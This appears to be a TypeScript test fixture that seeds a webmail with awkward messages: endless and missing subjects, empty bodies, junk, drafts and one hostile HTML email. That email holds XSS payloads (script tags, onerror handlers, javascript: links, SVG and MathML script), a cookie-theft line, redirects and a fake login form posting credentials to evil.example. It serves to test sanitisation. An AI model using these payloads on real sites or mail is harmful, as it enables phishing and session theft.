/** What a webmail must survive: hostile HTML, endless subjects, none at all, empty bodies, junk, a bounce, drafts. */
import { people } from '../people.ts';
import type { Mailing } from './types.ts';

const HOSTILE = `<html><head><meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/c.png) } .x { position: fixed; inset: 0; z-index: 99999 }</style></head>
<body onload="document.title='owned'">
<script>window.parent.postMessage('owned', '*'); document.cookie = 'session=stolen';</script>
<p>Dear customer, your mailbox is <b>almost full</b>. Sign in to keep it.</p>
<form action="https://evil.example/login" method="post"><input name="user"><input name="password" type="password"><button>Sign in</button></form>
<img src="x" onerror="alert(1)"><img src="https://track.evil.example/p.gif?u=1" width="1" height="1">
<a href="javascript:alert(2)">Keep my mailbox</a> <a href="https://evil.example/" target="_top">https://mail.harbour.example/</a>
<svg><script>alert(3)</script><a xlink:href="javascript:alert(4)"><text y="20">x</text></a></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">
<div class="x" style="position:fixed;top:0;left:0;width:100%;height:100%;background:url('https://evil.example/d.png')"></div>
<math><mi xlink:href="data:text/html,&lt;script&gt;alert(5)&lt;/script&gt;">m</mi></math>
<p style="width: expression(alert(6)); behavior: url(#default#time2)">Thank you for your trust.</p>
</body></html>`;

const LONG_SUBJECT = `Regarding the question whether the bench in front of the harbour office ${'which faces the water and has done so for as long as anybody can remember '.repeat(9)}should be turned round`;

export function oddities(): Mailing[] {
  return [
    {
      from: { name: 'Mail Support', address: 'support@mail-verify.example' },
      subject: 'Your mailbox is almost full',
      text: 'Please view this message in HTML.',
      html: HOSTILE,
      hoursAgo: 7,
    },
    { from: people.bram, subject: LONG_SUBJECT, text: 'In short: no.', hoursAgo: 33, flags: ['seen'] },
    { from: people.ada, text: 'I pressed send before I had thought of a subject. Is the kettle on?', hoursAgo: 26 },
    { from: people.callum, subject: '(the photo is the message)', text: ' ', hoursAgo: 52, flags: ['seen'] },
    {
      from: people.lucia,
      subject: 'Fwd: Fwd: Fwd: la foto de las cabras 🐐🐐🐐',
      text: '¡Mira la de la derecha! 😂',
      hoursAgo: 80,
      flags: ['seen'],
      encoding: 'base64',
    },
    {
      from: people.hanna,
      subject: 'A very wide table',
      text: `Tide\t${Array.from({ length: 40 }, (_, index) => `h${index}`).join('\t')}\n${'+0.42\t'.repeat(41)}`,
      hoursAgo: 101,
      flags: ['seen'],
      encoding: '8bit',
    },
    ...junk(),
    ...drafts(),
    {
      from: people.uwe,
      subject: 'Altes Angebot',
      text: 'Hat sich erledigt, bitte wegwerfen.',
      hoursAgo: 240,
      folder: 'Trash',
      flags: ['seen'],
      charset: 'iso-8859-1',
    },
  ];
}

function junk(): Mailing[] {
  const offers = [
    'You have won a yacht (small)',
    'Cheap anchors, only today',
    'RE: RE: your unclaimed lighthouse',
    'Loose weight while sailing',
    'Invoice overdue!!!',
    'Your fenders miss you',
  ];
  return offers.map((subject, index) => ({
    from: { name: 'Best Offers', address: `offer${index}@bargains-now.example` },
    subject,
    text: 'Dear friend,\n\nthis is not a joke. Act now. https://bargains-now.example/claim\n\nBest regards\nThe Department',
    html: `<center><h1 style="color:red;font-size:40px">${subject}</h1><a href="https://bargains-now.example/claim"><img src="https://bargains-now.example/b.gif" alt="CLICK"></a></center>`,
    hoursAgo: 11 + index * 40,
    folder: 'Junk',
    flags: index % 2 === 0 ? [] : ['seen'],
  }));
}

/** `from` and `to` are turned round for these: the owner writes them. */
function drafts(): Mailing[] {
  return [
    {
      from: people.priya,
      subject: 'Notes for the autumn list',
      text: 'Dear Priya,\n\nthree thoughts about the list:\n\n1. ',
      hoursAgo: 2,
      folder: 'Drafts',
      flags: ['seen', 'draft'],
    },
    {
      from: people.manon,
      subject: '',
      text: 'Chère Manon,\n\n',
      hoursAgo: 90,
      folder: 'Drafts',
      flags: ['seen', 'draft'],
    },
  ];
}
